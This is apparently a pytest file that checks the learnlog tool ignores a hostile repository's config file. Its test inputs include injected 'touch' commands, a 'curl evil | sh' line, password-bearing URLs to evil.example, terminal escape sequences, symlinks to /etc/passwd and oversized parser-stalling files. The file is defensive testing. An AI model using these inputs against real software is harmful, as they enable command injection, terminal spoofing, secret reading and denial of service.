"""A repository made by somebody who means harm: what its configuration tries has no effect, and each try is named."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from learnlog import config, config_file
from learnlog.errors import ConfigInvalid

DEFAULTS = {name: getattr(config.Settings({}), name) for name in config.Settings.__slots__ if name != "warnings"}
MOST_SECONDS = 5
"""For what takes a tenth of one; what hangs takes minutes."""


class Repository:
    """What was cloned, and the person who did; `pwned` is what its commands would make."""

    def __init__(self, folder: Path) -> None:
        self.root, self.pwned = folder / "clone", folder / "pwned"
        self.file = self.root / ".learnlog" / "config.toml"
        self.file.parent.mkdir(parents=True)
        self.home = folder / "home"
        self.home.mkdir()
        self.environment = {"LEARNLOG_HOME": str(self.home), "XDG_CACHE_HOME": str(folder / "cache")}

    def check(self) -> list[str]:
        """That nothing has an effect, at once, and twice; the warnings, which are safe to print."""
        start = time.monotonic()
        found = config.settings(str(self.root), self.environment)
        again = config.settings(str(self.root), self.environment)
        assert time.monotonic() - start < MOST_SECONDS
        assert {name: getattr(found, name) for name in DEFAULTS} == DEFAULTS
        assert found.warnings == again.warnings
        assert len(found.warnings) <= config_file.MOST_WARNINGS + 1
        for one in found.warnings:
            assert one.isprintable()
            assert len(one) < 400 + len(str(self.file))
            assert one.startswith(f"{self.file}: ")
        assert not self.pwned.exists()
        return [one.removeprefix(f"{self.file}: ") for one in found.warnings]


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    return Repository(tmp_path)


def test_what_is_the_persons_to_set_is_named_line_by_line(repository: Repository) -> None:
    # semantics: commands, addresses, cross-project reading and guard settings count only from the person's own file
    repository.file.write_text(
        f"""
        classifier.command = "touch {repository.pwned}"
        classifier.timeout_s = 600
        [guard]
        allow = ["aws-key", "role-prefix"]
        [cross_project]
        read = true
        [organization]
        log = "postgres://eve:hunter2@evil.example/learnlog"
        """
    )
    told = repository.check()
    personal = "counts in your own settings only (`learnlog config set --user`); it has no effect here"
    assert told == [
        f"line 2: classifier.command {personal}",
        f"line 3: classifier.timeout_s {personal}",
        f"line 5: guard.allow {personal}",
        f"line 7: cross_project.read {personal}",
        "line 9: organization.log has an address with a password in it, which a committed file must not have; it has no effect",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "classifier = {{ command = ['touch', '{pwned}'] }}\n",
        "[classifier]\ncommand = 'touch {pwned}'\n",
        '"classifier"."command" = "touch {pwned}"\n',
        '"class\\u0069fier".command = "touch {pwned}"\n',
        "['classifier']\r\n'command' = '''\r\ntouch {pwned}'''\r\n",
    ],
)
def test_a_command_is_no_projects_however_it_is_spelt(repository: Repository, text: str) -> None:
    repository.file.write_text(text.format(pwned=repository.pwned))
    [told] = repository.check()
    assert "classifier.command counts in your own settings only" in told


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("name = 'postgres://eve:hunter2@evil/x'\n", "name"),
        ("name = 'postgres\\u003a//eve:hunter2@evil/x'\n".replace("'", '"'), "name"),
        ("stack = ['a', 'redis://:hunter2@evil']\n", "stack"),
        ("vocabulary.categories = ['x://y:hunter2@z']\n", "vocabulary.categories"),
        ("[deep.er]\nx = [{y = [['see mongodb://eve:hunter2@evil']]}]\n", "deep"),
        ("'http://eve:hunter2@evil' = 1\n", "http://eve:…@evil"),
        ("['http://eve:hunter2@evil']\n['http://eve:hunter2@evil']\n", ""),
        ("# was: postgres://eve:hunter2@evil/x\n", "a comment"),
        ("stack = [\n# postgres://eve:hunter2@evil/x\n]\n", "a comment"),
    ],
)
def test_a_password_is_named_by_its_place_and_never_repeated(repository: Repository, text: str, key: str) -> None:
    # fault 46
    repository.file.write_text(text)
    defaults = DEFAULTS | {"stack": () if text.startswith("stack = [\n#") else None}
    found = config.settings(str(repository.root), repository.environment)
    assert {name: getattr(found, name) for name in defaults} == defaults
    [told] = found.warnings
    line = 2 if "\n#" in text or not key else 1
    says = f"{key} has an address with a password in it" if key else "not TOML"  # what the parser says may repeat it
    assert told.startswith(f"{repository.file}: line {line}: {says}")
    assert "hunter2" not in told


@pytest.mark.parametrize(
    "text",
    [
        'name = "\\u001b[31mowned\\u001b]0;title\\u0007"\n',
        'name = "a\\nlearnlog: warning: run curl evil | sh"\n',
        'name = "\\u202egnp.exe"\n',
        'stack = ["\\u001b[2J"]\n',
        '"\\u001b[31mkey\\u0007\\n\\u2028" = 1\n',
        '["a\\r\\nb"."\\u009b31m"]\n',
        f'"{"long" * 5000}" = 1\n',
        "name = '\x1b[31m'\n",
        "name = \x00\n",
    ],
)
def test_what_would_act_on_a_terminal_is_not_shown_by_a_warning(repository: Repository, text: str) -> None:
    # fault 20
    repository.file.write_bytes(text.encode())
    [told] = repository.check()
    assert told.startswith("line 1: ")


@pytest.mark.parametrize("text", ["odd = 1\n", "name = 3\n", "=\n"])
def test_the_name_of_a_folder_acts_on_no_terminal_either(tmp_path: Path, text: str) -> None:
    # fault 20
    repository = Repository(tmp_path / "a\x1b[31m\nb")
    repository.file.write_text(text)
    [told] = config.settings(str(repository.root), repository.environment).warnings
    assert told.isprintable()
    assert "a\\x1b[31m⏎b" in told


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("stack = [" + '"a",' * 10_000 + "]\n", "line 1: stack must be a list of names: at most 100"),
        ("stack = [" + '\n"a",' * 10_000 + "]\n", "line 1: stack must be a list of names: at most 100"),
        ("x = " + "[" * 30_000, "it is nested too deeply"),
        ("x = " + "{a=" * 15_000, "it is nested too deeply"),
        (f"[{'.'.join('a' * 15_000)}]\n{'.'.join('b' * 15_000)} = 1\n", "line 1: it has more than 100 dots"),
        (f"[{'.'.join('a' * 100)}]\nx = 1\n", "line 1: a is not known"),
        ("x = " + "9" * 60_000, "it has a number of too many digits"),
        ("\n".join(f"k{n} = 1" for n in range(6000)), "more lines have no effect"),
        ("\n".join(f"[k{n}]\nname = 'x'" for n in range(2500)), "more lines have no effect"),
        ("# " + "://x:" * 12_000 + "@\n", "line 1: a comment has an address"),
        ("name = '" + "@://x:" * 10_000 + "'\n", "line 1: name"),
        ("x = '''\n" + "\n".join(["name = 1"] * 6000), "line"),
    ],
    ids=range(12),
)
def test_what_is_made_to_be_slow_is_not(repository: Repository, text: str, says: str) -> None:
    assert len(text) <= config_file.LARGEST_FILE
    repository.file.write_text(text)
    assert any(says in one for one in repository.check())


def test_a_file_of_50_mb_is_not_read(repository: Repository) -> None:
    with repository.file.open("wb") as file:
        file.write(b"name = 'x'\n")
        file.truncate(50 * 1024 * 1024)
    assert repository.check() == ["it is larger than 64 KiB; nothing in it has an effect"]


@pytest.mark.parametrize("kind", ["passwd", "home", "fifo", "folder", "device", "loop", "nowhere", "escaping folder"])
def test_what_is_no_file_of_the_project_is_not_read(repository: Repository, kind: str) -> None:
    file, says = repository.file, "it is a link that leads out of the project"
    secret = repository.home / "secret.toml"
    secret.write_text("name = 'secret'\n")
    if kind == "passwd":
        file.symlink_to("/etc/passwd")
    elif kind == "home":
        file.symlink_to(secret)
    elif kind == "fifo":
        os.mkfifo(file)
        says = "it is no file"
    elif kind == "folder":
        file.mkdir()
        says = "it is no file"
    elif kind == "device":
        file.symlink_to("/dev/zero")
    elif kind == "loop":
        file.symlink_to(file)
        says = "Too many levels of symbolic links"
    elif kind == "nowhere":
        file.symlink_to(repository.root / "missing.toml")
        says = ""
    else:
        (repository.root / "link").symlink_to(repository.home)
        file.symlink_to("../link/secret.toml")
    assert repository.check() == ([f"{says}; nothing in it has an effect"] if says else [])
    if kind in ("home", "escaping folder"):
        with pytest.raises(ConfigInvalid):
            config_file.put(str(file), "name", "x", str(repository.root))
        assert secret.read_text() == "name = 'secret'\n"


def test_a_link_inside_of_the_project_is_followed(repository: Repository) -> None:
    (repository.root / "shared.toml").write_text("name = 'shop'\n")
    repository.file.symlink_to("../shared.toml")
    found = config.settings(str(repository.root), repository.environment)
    assert (found.name, found.warnings) == ("shop", ())


def test_reading_commands_answer_in_a_hostile_repository(repository: Repository, tmp_path: Path) -> None:
    # issue 4: reading commands go on with defaults
    repository.file.write_text(f'classifier.command = "touch {repository.pwned}"\nname = "\\u001b[31m"\n')
    environment = {
        **{name: value for name, value in os.environ.items() if not name.startswith("LEARNLOG_")},
        **repository.environment,
        "HOME": str(tmp_path),
        "PYTHONPATH": str(Path(__file__).parents[2]),
    }
    for words, told in ((["search", "x", "--operation", "plan"], 2), (["config", "get", "classifier.command"], 2)):
        line = [sys.executable, "-m", "learnlog", *words]
        options = {"cwd": repository.root, "env": environment, "capture_output": True, "timeout": 60, "check": False}
        ran = subprocess.run(line, text=True, **options)  # type: ignore[call-overload]
        assert (ran.returncode, ran.stdout.strip(), ran.stderr.count("\n")) == (0, "", told), ran.stderr
        assert "\x1b" not in ran.stderr
    assert not repository.pwned.exists()
